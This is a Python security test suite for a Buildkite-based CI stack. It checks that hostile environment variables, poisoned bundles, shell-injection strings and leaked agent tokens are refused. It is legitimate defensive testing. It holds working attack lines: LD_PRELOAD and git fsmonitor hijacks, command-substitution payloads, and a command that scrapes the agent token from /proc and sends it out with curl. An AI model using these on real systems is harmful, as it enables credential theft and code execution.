"""Tokens, texts and code on their way to a job attacked, and all places searched for secrets."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import zipfile
from dataclasses import replace

from attacks import hosts
from attacks.collector import Collector
from attacks.conftest import Seen
from attacks.rows import attack
from emulator.buildkite_client import Clock, Contract
from mayfly_cli.check_buildkite.suite.acquisition_tokens import token_for
from mayfly_lab.lab import STACK
from stories.stage import QUICK, Stage
from whole.output import lines
from whole.steps import HOLD

OPEN, FAULTY, ELSEWHERE = "open", "faulty", "elsewhere"
PARAMETERS: dict[str, dict[str, str]] = {
    OPEN: {},
    FAULTY: {"job/attempts": "1"},
}
FURTHER_QUEUES = (ELSEWHERE,)
DELAYS = replace(QUICK, minute=10.0)


# ---------------------------------------------------------------- on the host


@attack(
    "A step's environment sets BASH_ENV, LD_PRELOAD, PYTHONPATH, git's and Mayfly's variables",
    refused_by="the host",
    mechanism="the agent's environment is made by the supervisor; the pipeline's variables reach"
    " only processes of the job's user, and not the hook that checks the policy",
)
def test_a_steps_environment_reaches_no_process_of_root(stage: Stage, seen: Seen) -> None:
    hostile = {
        "BASH_ENV": "/var/lib/mayfly-job/evil",
        "LD_PRELOAD": "/var/lib/mayfly-job/evil.so",
        "PYTHONPATH": "/var/lib/mayfly-job",
        "PYTHONSTARTUP": "/var/lib/mayfly-job/evil",
        "GIT_SSH_COMMAND": "/var/lib/mayfly-job/evil",
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "core.fsmonitor",
        "GIT_CONFIG_VALUE_0": "echo fsmonitor ran as $(id -u) >>/tmp/ran; false",
        "BUILDKITE_HOOKS_PATH": "/var/lib/mayfly-job",
        "BUILDKITE_SHELL": "/bin/bash -e -c",
        "MAYFLY_POLICY": "/dev/null",
        "MAYFLY_HOOKS_DIR": "/var/lib/mayfly-job",
    }
    command = (
        "echo 'echo ran as $(id -u) >>/tmp/ran' >/var/lib/mayfly-job/evil\n"
        "bash -c true; git status >/dev/null\n" + HOLD
    )
    job = stage.build("hostile", OPEN, command, env=hostile)
    host = stage.running(job)
    stage.until("the job waits", lambda: "up" in lines(stage.log_of(job)))
    ran = hosts.run(stage, host, "sort -u /tmp/ran; id -u mayfly-job").output.splitlines()
    uid = ran.pop()
    preload = "grep -lz -e LD_PRELOAD -e BASH_ENV /proc/[0-9]*/environ 2>/dev/null"
    # A process may end between both commands. What it ran stands in /tmp/ran.
    owners = f"stat -c %U $({preload}) 2>/dev/null | sort -u"
    users = hosts.run(stage, host, owners).output.splitlines()
    hosts.let_go(stage, host)
    assert stage.ended(job).outcome == "passed", stage.log_of(job)
    assert set(ran) == {f"ran as {uid}", f"fsmonitor ran as {uid}"}
    assert users == ["mayfly-job"]
    assert "evil.so" not in stage.lab.room.console(host), "a process of root tried to load it"
    seen(f"what the variables name ran as {uid} alone; processes that have them: {users[0]}'s")


# ---------------------------------------------------------------- acquisition tokens


@attack(
    "Job code sends its acquisition token out, which another machine uses at once",
    refused_by="Buildkite",
    mechanism="the token ends when Buildkite accepts the job, before any code of the job; agents"
    " since 3.133 do not have it in their environment",
)
def test_a_token_that_job_code_sees_is_used_up(
    stage: Stage, collector: Collector, seen: Seen
) -> None:
    command = (
        "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'"
        " | sed -n 's/^BUILDKITE_AGENT_TOKEN=//p' | head -1"
        f" | curl -s -d @- {collector.url}/token\n{HOLD}"
    )
    job = stage.push(OPEN, command)
    host = stage.running(job)
    token = stage.until("the token is out", lambda: collector.sent("/token"))[0].body.strip()
    assert token == stage.lab.buildkite.issued_tokens()[-1], "the job has not read its token"
    status = Contract(stage.lab.buildkite, Clock()).registration(token).status_code
    hosts.let_go(stage, host)
    assert stage.ended(job).outcome == "passed"
    assert status == 401
    seen(f"the job read its own token; a registration with it, while the job runs: HTTP {status}")


@attack(
    "A token that is still good is used for another job, from another queue, and twice",
    refused_by="Buildkite",
    mechanism="a token is good for one job, once, by an agent of the job's queue",
)
def test_a_token_gets_its_own_job_once(stage: Stage, seen: Seen) -> None:
    client = Contract(stage.lab.buildkite, Clock())
    assert client.register_stack(queue_key=ELSEWHERE).ok
    own, other = stage.push(ELSEWHERE), stage.push(ELSEWHERE)
    assert client.reserve(own, other).ok
    token = token_for(client, own)

    def acquire(job: str, queue: str) -> int:
        return client.agent(token, tags=(f"queue={queue}",)).acquire(job).status_code

    answers = {
        "another job": acquire(other, ELSEWHERE),
        "another queue": acquire(own, OPEN),
        "its job": acquire(own, ELSEWHERE),
    }
    again = client.registration(token, (f"queue={ELSEWHERE}",)).status_code
    for job in (own, other):
        stage.lab.buildkite.cancel_job(job)
    assert answers["its job"] == 200
    assert 400 <= answers["another job"] < 500
    assert answers["another queue"] == 404
    assert again == 401
    told = ", ".join(f"{what}: HTTP {status}" for what, status in answers.items())
    seen(f"{told}, again: HTTP {again}")


@attack(
    "A token is used after its job has ended",
    refused_by="Buildkite",
    mechanism="a token ends with its reservation",
)
def test_a_token_is_dead_after_its_job(stage: Stage, seen: Seen) -> None:
    job = stage.push(OPEN)
    assert stage.ended(job).outcome == "passed"
    minted = stage.lab.buildkite.issued_tokens()[-1]
    late = Contract(stage.lab.buildkite, Clock()).registration(minted).status_code
    assert late == 401
    seen(f"registration after the end: HTTP {late}")


# ---------------------------------------------------------------- the bundle


_BUNDLE = f"/mayfly-infra/{STACK}/bundle"


def fails_with(stage: Stage, words: str, **changes: str) -> str:
    """Change the bundle's parameter, and let an instance boot. Returns the console's line."""
    ssm = stage.lab.aws.client("ssm")
    good = ssm.get_parameter(Name=_BUNDLE)["Parameter"]["Value"]
    before = len(stage.launched(FAULTY))
    poisoned = json.dumps({**json.loads(good), **changes})
    ssm.put_parameter(Name=_BUNDLE, Value=poisoned, Overwrite=True)
    try:
        job = stage.push(FAULTY)
        host = stage.until("an instance is launched", lambda: stage.launched(FAULTY)[before:])[0]
        console = stage.until(
            f"the console says {words}",
            lambda: found if words in (found := stage.lab.room.console(host)) else "",
        )
        stage.lab.buildkite.cancel_job(job)
        gone = stage.gone(host)
    finally:
        ssm.put_parameter(Name=_BUNDLE, Value=good, Overwrite=True)
    assert not gone.proven
    assert "supervisor" not in console
    assert "waiting for the sandbox profile" not in console
    return next(line for line in console.splitlines() if words in line)


@attack(
    "A poisoned bundle: the parameter names another SHA-256 than the layer's content has",
    refused_by="user data",
    mechanism="the host unpacks and starts nothing whose SHA-256 is not the parameter's",
)
def test_a_bundle_of_another_hash_never_runs(stage: Stage, seen: Seen) -> None:
    seen(fails_with(stage, "has a wrong SHA-256", sha256="0" * 64))


@attack(
    "A poisoned bundle: the parameter names a version of the layer with an attacker's supervisor",
    refused_by="user data",
    mechanism="the SHA-256 beside the layer's name is the release's; both stand in one parameter,"
    " which only the stack's deployment may write",
)
def test_another_layer_never_runs(stage: Stage, seen: Seen) -> None:
    evil = io.BytesIO()
    with zipfile.ZipFile(evil, "w") as archive:
        archive.writestr("bundle/mayfly-instance.tar.gz", b"evil")
    published = stage.lab.aws.client("lambda").publish_layer_version(
        LayerName=f"{STACK}-instance", Content={"ZipFile": evil.getvalue()}
    )
    digest = hashlib.sha256(evil.getvalue()).digest()
    assert published["Content"]["CodeSha256"] == base64.b64encode(digest).decode()
    layer = published["LayerVersionArn"]
    seen(fails_with(stage, "has a wrong SHA-256", layer=layer))


# ---------------------------------------------------------------- texts


@attack(
    "A job's label, branch and variables with shell code, on a host that runs it",
    refused_by="the host",
    mechanism="the supervisor starts programs by lists of words, without a shell",
)
def test_texts_of_a_job_are_not_run_by_its_host(stage: Stage, seen: Seen) -> None:
    text = "$(touch /tmp/injected)`touch /tmp/injected`; touch /tmp/injected"
    command = f'echo "$TEXT" | grep -c touch\n{HOLD}'
    job = stage.build(
        "shell", OPEN, command, branch="feature", env={"TEXT": text}, label=text, key="shell"
    )
    host = stage.running(job)
    found = hosts.run(stage, host, "ls /tmp/injected /injected 2>/dev/null").output
    hosts.let_go(stage, host)
    assert stage.ended(job).outcome == "passed", stage.log_of(job)
    assert found == ""
    seen("the text came to the job as a value; nothing of it ran")


@attack(
    "A parameter of a queue with line ends, quotes and shell code",
    refused_by="provision",
    mechanism="every value is parsed to a known form; a bad one leaves the last good configuration",
)
def test_a_hostile_parameter_changes_nothing(stage: Stage, seen: Seen) -> None:
    before = stage.in_force(OPEN)
    hostile = {
        "tags": "disk=large\nqueue=guarded",
        "launch/instance-types": "m7i.large; touch /tmp/x",
        "agent/config": "hooks-path=/tmp\n",
        "bootstrap/script": "s3://mayfly-scripts/../other/x.sh $(id)",
    }
    refused: list[str] = []
    for name, value in hostile.items():
        stage.lab.put_parameter(OPEN, name, value)
        refused += stage.until("the queue has a problem", lambda: stage.queue(OPEN).problems)
        assert stage.in_force(OPEN) == before, name
        full = f"/mayfly/{STACK}/queues/{OPEN}/{name}"
        stage.lab.aws.client("ssm").delete_parameter(Name=full)
        stage.until("the queue has no problem", lambda: not stage.queue(OPEN).problems)
    seen(f"{len(hostile)} values refused, as: {refused[0][:80]}")


# ---------------------------------------------------------------- secrets everywhere


@attack(
    "After the attacks above: logs, consoles, records, calls, user data and last words are searched"
    " for the cluster's token, every acquisition token and every secret key that was issued",
    refused_by="the control plane and the host",
    mechanism="secrets are held only where they are used, and removed from text by shape and by"
    " value",
)
def test_no_secret_is_written_down_anywhere(stage: Stage, seen: Seen) -> None:
    assert stage.ended(stage.push(OPEN)).outcome == "passed"
    stage.empty()
    evidence = stage.evidence()
    places = dict(evidence.texts)
    for instance in stage.lab.aws.ec2.instances.values():
        places[f"the user data of {instance.instance_id}"] = instance.user_data.decode()
    places["events and calls"] = "\n".join(str(entry) for entry in evidence.journal)
    mailbox = stage.lab.aws.client("dynamodb").scan(TableName=f"{STACK}-mailbox")["Items"]
    places["mailbox rows"] = str(mailbox)
    secrets = {each.what: each.value for each in evidence.secrets}
    for holder in stage.lab.aws.credentials._holders.values():
        secrets[f"the secret key of {holder.principal.userid}"] = holder.keys.secret_key
        secrets[f"the session token of {holder.principal.userid}"] = holder.keys.token
    found = [
        (what, place)
        for what, secret in secrets.items()
        for place, text in places.items()
        if secret in text and "log of job" not in place
    ]
    assert found == []
    assert any("mayfly: " in text for place, text in places.items() if "console" in place)
    size = sum(map(len, places.values()))
    seen(f"{len(secrets)} secrets, none in {len(places)} texts of {size >> 10} KB")
